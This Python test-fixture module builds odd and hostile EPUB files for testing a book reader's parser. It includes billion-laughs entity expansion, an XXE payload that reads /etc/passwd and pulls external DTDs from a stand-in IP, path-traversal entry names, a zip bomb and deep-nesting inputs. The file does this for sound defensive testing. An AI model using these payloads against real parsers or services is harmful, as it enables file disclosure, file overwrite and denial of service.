"""EPUBs that are odd, and EPUBs that mean harm."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

from tests.books.make_epub import CONTAINER, make_epub, nav, ncx, page, point, prose
from tests.hostile.bombs import zip_with_bomb

XHTML_NS = 'xmlns="http://www.w3.org/1999/xhtml"'
CHAPTER = page(f"<h2>One</h2>{prose('Ada')}")


def laughs(root: str, body: str) -> str:
    """Ten entities of ten entities each, ten times over: a billion of "lol"."""
    lines = ['<!ENTITY lol0 "lol">']
    for depth in range(1, 11):
        inner = f"&lol{depth - 1};" * 10
        lines.append(f'<!ENTITY lol{depth} "{inner}">')
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{"".join(lines)}]>{body}'


def billion_laughs() -> bytes:
    body = f"<html {XHTML_NS}><body><p>&lol10;</p>{prose('Ada')}</body></html>"
    return make_epub({"c.xhtml": laughs("html", body)})


def billion_laughs_in_package() -> bytes:
    return make_epub(
        {"c.xhtml": CHAPTER},
        ncx_page=laughs("ncx", ncx(point("c.xhtml", "&lol10;"))),
        metadata="<dc:title>&lol10;</dc:title>",
    )


def large_entity_many_times() -> bytes:
    dtd = f'<!DOCTYPE html [<!ENTITY a "{"a" * 100_000}">]>'
    body = f"<html {XHTML_NS}><body><p>{'&a;' * 100_000}</p>{prose('Ada')}</body></html>"
    return make_epub({"c.xhtml": dtd + body})


def external_entities() -> bytes:
    dtd = (
        '<!DOCTYPE html SYSTEM "http://192.0.2.1/evil.dtd" ['
        '<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY web SYSTEM "http://192.0.2.1/x">'
        '<!ENTITY % more SYSTEM "http://192.0.2.1/more.dtd"> %more;]>'
    )
    body = f"<html {XHTML_NS}><body><p>&file;&web;</p>{prose('Ada')}</body></html>"
    return make_epub({"c.xhtml": dtd + body})


def large_archive() -> bytes:
    data = make_epub({"c.xhtml": page(prose("Ada")), "d.xhtml": "PLACE"})
    return zip_with_bomb(data, "OEBPS/d.xhtml", b" ", 300)


def many_large_files() -> bytes:
    pages = {f"c{n}.xhtml": CHAPTER + " " * 2**20 for n in range(600)}
    return make_epub(pages)


def many_entries() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("META-INF/container.xml", CONTAINER)
        for number in range(25_000):
            archive.writestr(f"{number}", b"")
    return stream.getvalue()


def deep(tag: str, depth: int = 100_000) -> Callable[[], bytes]:
    def make() -> bytes:
        nested = f"<{tag}>" * depth + "At the bottom lay a coin." + f"</{tag}>" * depth
        return make_epub({"c.xhtml": page(f"<h2>One</h2>{prose('Ada')}{nested}{prose('Ben')}")})

    return make


def deep_contents() -> bytes:
    lines = '<li><a href="c.xhtml">One</a><ol>' * 20_000 + "</ol></li>" * 20_000
    return make_epub({"c.xhtml": CHAPTER}, nav_page=nav(lines))


def many_doctypes() -> bytes:
    return make_epub({"c.xhtml": "<!DOCTYPE a [" * 200_000 + CHAPTER})


def many_attributes() -> bytes:
    attributes = " ".join(f'a{n}="{n}"' for n in range(200_000))
    return make_epub({"c.xhtml": page(f"<p {attributes}>x</p>{prose('Ada')}")})


def many_links() -> bytes:
    inner = '<a href="#x">' * 3_000 + "one " * 50_000 + "</a>" * 3_000
    return make_epub({"c.xhtml": page(f"{inner}{prose('Ada')}")})


def many_drawings() -> bytes:
    """Drawings within drawings, and one of 20,000 lines with a way to choose among each two."""
    nested = "<svg><foreignObject><switch>" * 80 + prose("Cy")
    nested += "</switch></foreignObject></svg>" * 80
    lines = "<switch><g/><text>Ada said little.</text><text>no</text></switch>" * 20_000
    drawn = f'<svg xmlns="http://www.w3.org/2000/svg">{lines}</svg>'
    return make_epub({"c.xhtml": page(f"<h2>One</h2>{prose('Ada')}{nested}{drawn}")})


def climbing_names() -> bytes:
    extra = {"../../escaped.xhtml": CHAPTER, "/tmp/infinisum-escaped.xhtml": CHAPTER}
    return make_epub({"c.xhtml": CHAPTER, "../../../etc/passwd": CHAPTER}, extra=extra)


def oddly_named() -> bytes:
    """Hrefs that are percent-encoded, of other composition and in other case than the files."""
    pages = {"a%20b.xhtml": page(f"<h2>One</h2>{prose('Ada')}"),
             "Cafe\u0301.xhtml": page(f"<h2>Two</h2>{prose('Ben')}"),
             "CHAPTER.XHTML": page(f"<h2>Three</h2>{prose('Cy')}")}  # fmt: skip
    data = make_epub(pages)
    renamed = {"OEBPS/a%20b.xhtml": "OEBPS/a b.xhtml",
               "OEBPS/Cafe\u0301.xhtml": "OEBPS/Caf\xe9.xhtml",
               "OEBPS/CHAPTER.XHTML": "OEBPS/chapter.xhtml"}  # fmt: skip
    return rewritten(data, names=renamed)


def rewritten(data: bytes, *, names: dict[str, str] | None = None, drop: str = "") -> bytes:
    """An EPUB with other names, or without a file."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(stream, "w") as archive:
        for info in source.infolist():
            if info.filename != drop:
                name = (names or {}).get(info.filename, info.filename)
                archive.writestr(name, source.read(info))
    return stream.getvalue()


def duplicate_entries() -> bytes:
    stream = io.BytesIO(make_epub({"c.xhtml": page(prose("Ben"))}))
    with zipfile.ZipFile(stream, "a") as archive:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr("OEBPS/c.xhtml", CHAPTER)
    return stream.getvalue()


def without_mimetype() -> bytes:
    return rewritten(make_epub({"c.xhtml": CHAPTER}), drop="mimetype")


def without_container() -> bytes:
    return rewritten(make_epub({"c.xhtml": CHAPTER}), drop="META-INF/container.xml")


def without_package() -> bytes:
    return rewritten(make_epub({"c.xhtml": CHAPTER}), drop="OEBPS/content.opf")


def two_packages() -> bytes:
    """Two renditions; the first counts, though ebooklib would take the last."""
    root = '<rootfile full-path="{}" media-type="application/oebps-package+xml"/>'
    both = root.format("OEBPS/content.opf") + root.format("other.opf")
    stream = io.BytesIO(rewritten(make_epub({"c.xhtml": CHAPTER}), drop="META-INF/container.xml"))
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr(
            "META-INF/container.xml",
            '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
            f"<rootfiles>{both}</rootfiles></container>",
        )
        archive.writestr("other.opf", "<package/>")
    return stream.getvalue()


def missing_spine_entries() -> bytes:
    return make_epub({"c.xhtml": CHAPTER, "d.xhtml": CHAPTER}, spine=["c.xhtml", "nobody"])


def pictures_in_spine() -> bytes:
    items = (
        '<item id="p" href="p.jpg" media-type="image/jpeg"/>'
        '<item id="q" href="q.png" media-type="image/png" fallback="d"/>'
        '<item id="d" href="d.xhtml" media-type="application/xhtml+xml"/>'
    )
    fallback = page(f"<h2>Two</h2>{prose('Ben')}")
    files = {"p.jpg": b"\xff\xd8\xff", "q.png": b"\x89PNG", "d.xhtml": fallback}
    return make_epub(
        {"c.xhtml": CHAPTER},
        spine=["p", "c.xhtml", "q"],
        extra_items=items,
        extra={f"OEBPS/{name}": content for name, content in files.items()},
    )


def not_well_formed() -> bytes:
    body = CHAPTER.replace("</p>", "", 3).replace("<h2>", "<h2><b>") + "<p>After & the end."
    return make_epub({"c.xhtml": body})


def in_encoding(codec: str, declared: str, version: str = "1.0") -> Callable[[], bytes]:
    def make() -> bytes:
        text = CHAPTER.replace('version="1.0" encoding="utf-8"', f'version="{version}" {declared}')
        text = text.replace("little.", "little, said Zo\xeb.")
        return make_epub({"c.xhtml": text.encode(codec)})  # type: ignore[dict-item]

    return make


ODD: dict[str, Callable[[], bytes]] = {
    "oddly named": oddly_named,
    "duplicate entries": duplicate_entries,
    "without mimetype": without_mimetype,
    "without container": without_container,
    "without package": without_package,
    "two packages": two_packages,
    "missing spine entries": missing_spine_entries,
    "pictures in the spine": pictures_in_spine,
    "not well-formed": not_well_formed,
    "UTF-16": in_encoding("utf-16", 'encoding="utf-16"'),
    "UTF-16 without a mark": in_encoding("utf-16-be", 'encoding="utf-16"'),
    "UTF-16 declared, UTF-8 written": in_encoding("utf-8", 'encoding="utf-16"'),
    "UTF-32": in_encoding("utf-32", 'encoding="utf-32"'),
    "Latin-1": in_encoding("latin-1", 'encoding="iso-8859-1"'),
    "XML 1.1": in_encoding("utf-8", 'encoding="utf-8"', "1.1"),
    "an encoding nobody knows": in_encoding("utf-8", 'encoding="x-klingon"'),
    "an encoding that is none": in_encoding("utf-8", 'encoding="undefined"'),
    "climbing names": climbing_names,
    "external entities": external_entities,
    "billion laughs": billion_laughs,
    "billion laughs in the package": billion_laughs_in_package,
    "a large entity many times": large_entity_many_times,
    "deep divisions": deep("div"),
    "deep quotations": deep("q"),
    "deep tables": deep("table"),
    "deep contents": deep_contents,
    "many doctypes": many_doctypes,
    "many attributes": many_attributes,
    "many drawings": many_drawings,
}  # read, whatever else is wrong with them
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "a large archive": (large_archive, "would unpack to 300 MiB"),
    "many large files": (many_large_files, "unpack to more than 512 MiB"),
    "many entries": (many_entries, "too many for a book"),
}  # refused, with these words
